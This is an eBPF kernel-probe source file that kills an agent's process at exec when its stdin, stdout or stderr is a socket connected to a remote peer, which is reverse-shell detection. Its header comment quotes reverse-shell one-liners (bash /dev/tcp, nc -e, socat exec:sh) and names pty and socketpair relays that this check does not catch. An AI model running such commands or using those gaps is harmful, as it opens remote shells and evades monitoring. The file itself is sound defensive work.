/* SPDX-License-Identifier: Apache-2.0
 * Reverse shells, decided at exec (issue 12 part 5) (BCC C).
 *
 * Compiles on its own (test_ebpf_sources.py). A reverse shell is a program
 * whose stdin, stdout or stderr is a socket connected to a remote peer
 * (`bash -i >& /dev/tcp/H/P 0>&1`, `nc -e`, socat tcp:H:P exec:sh with
 * fdin/fdout on the socket). At every successful exec of an agent task
 * (sched_process_exec), with PC_CFG_STDIO_SOCKET, descriptors 0..2 are read from
 * the kernel's file table (task->files->fdt->fd[i], layouts from BTF): a
 * socket inode (S_IFSOCK) whose sock is AF_INET/AF_INET6 with a non-zero,
 * non-loopback peer address is a violation, rule exec.stdio_socket: the
 * task gets SIGKILL before the new program runs an instruction, and a
 * PC_EV_STDIO_SOCKET record (struct pc_net: the peer) goes to the verdict
 * ring. Monitor mode: reported PC_WOULD_DENY, nothing killed.
 *
 * Not a reverse shell here: AF_UNIX stdio (systemd services write to
 * journald through a unix socket), loopback peers, unconnected sockets.
 * Limits (docs/network.md): a shell behind a pty or a socketpair relay
 * (python pty.spawn, socat pty) has no socket on 0..2 — the relay's own
 * connection is judged by the address policy, the scan limits and SSH
 * detection.
 */

#include "net.bpf.h"

#define PC_S_IFMT 0170000
#define PC_S_IFSOCK 0140000

#ifdef PC_HAVE_BTF_OFFSETS
/* 1 when a peer address is loopback or unset (not a remote peer). */
static __always_inline int pc_stdio_local(u16 family, const u8 *a)
{
	if (family == PC_AF_INET)
		return a[0] == 127 || (a[0] | a[1] | a[2] | a[3]) == 0;
	u32 w[4] = {};
	__builtin_memcpy(w, a, 16);
	if ((w[0] | w[1]) == 0 && w[2] == bpf_htonl(0x0000ffff))
		return a[12] == 127 || w[3] == 0;        /* ::ffff:a.b.c.d */
	return (w[0] | w[1] | w[2]) == 0 && bpf_ntohl(w[3]) <= 1;   /* :: and ::1 */
}

/* The remote peer of descriptor fd of the file table `fdarr`, if it is a
 * connected inet socket: family returned (0: not one), address/port out. */
static __always_inline u16 pc_stdio_peer(const void *fdarr, u32 fd, u8 *addr16, u16 *dport)
{
	const void *file = (const void *)pc_read_ptr(fdarr, (u64)fd * 8);
	if (!file)
		return 0;
	const void *inode = (const void *)pc_read_ptr(file, PC_OFF_FILE_INODE);
	if ((pc_read_u16(inode, PC_OFF_INODE_MODE) & PC_S_IFMT) != PC_S_IFSOCK)
		return 0;
	const void *sock = (const void *)pc_read_ptr(file, PC_OFF_FILE_PRIVATE_DATA);
	const void *sk = (const void *)pc_read_ptr(sock, PC_OFF_SOCKET_SK);
	if (!sk)
		return 0;
	u16 family = pc_read_u16(sk, PC_OFF_SKC_FAMILY);
	if (family == PC_AF_INET)
		bpf_probe_read_kernel(addr16, 4, (const char *)sk + PC_OFF_SKC_DADDR);
	else if (family == PC_AF_INET6)
		bpf_probe_read_kernel(addr16, 16, (const char *)sk + PC_OFF_SKC_V6_DADDR);
	else
		return 0;
	if (pc_stdio_local(family, addr16))
		return 0;
	*dport = bpf_ntohs(pc_read_u16(sk, PC_OFF_SKC_DPORT));
	return family;
}

static __always_inline int pc_stdio_check(void)
{
	struct pc_config *cfg = pc_cfg();
	if (!cfg || !(cfg->flags & PC_CFG_STDIO_SOCKET))
		return 0;
	u32 agent = pc_agent_of_current(cfg);
	if (!agent)
		return 0;
	const void *task = (const void *)bpf_get_current_task();
	const void *files = (const void *)pc_read_ptr(task, PC_OFF_TASK_FILES);
	const void *fdt = (const void *)pc_read_ptr(files, PC_OFF_FILES_FDT);
	const void *fdarr = (const void *)pc_read_ptr(fdt, PC_OFF_FDTABLE_FD);
	if (!fdarr)
		return 0;
	u8 addr[16] = {};
	u16 dport = 0, family = 0;
#pragma unroll
	for (u32 fd = 0; fd < 3 && !family; fd++)
		family = pc_stdio_peer(fdarr, fd, addr, &dport);
	if (!family)
		return 0;
	u16 flags = 0;
	u8 verdict = pc_deny_verdict_kill(cfg, &flags);
	struct pc_net *e = PC_RESERVE_FOR(struct pc_net, agent, 1);
	if (!e)
		return 0;
	pc_fill_header(&e->h, PC_EV_STDIO_SOCKET, agent);
	e->h.verdict = verdict;
	e->h.rule_id = pc_named_rule(PC_NX_STDIO);
	e->h.flags = flags;
	u8 none[16] = {};
	pc_fill_net(e, (u8)family, 0, dport, 0, addr, none);
	pc_submit(e, &e->h);
	return 0;
}

/* Relies on: sched_process_exec firing in the task's own context once the
 * new image replaced the old one (every successful execve/execveat, native
 * or 32-bit compat: no syscall tracepoint, which skips compat calls), before
 * the return to user mode, where a pending SIGKILL (queued by
 * bpf_send_signal in pc_deny_verdict_kill) ends the task: the new program
 * never runs. The descriptors read are the ones it would start with
 * (close-on-exec ones are closed in begin_new_exec, before this point). A raw
 * tracepoint: exec.c holds the sched_process_exec tracepoint program. */
RAW_TRACEPOINT_PROBE(sched_process_exec)
{
	return pc_stdio_check();
}
#endif /* PC_HAVE_BTF_OFFSETS */
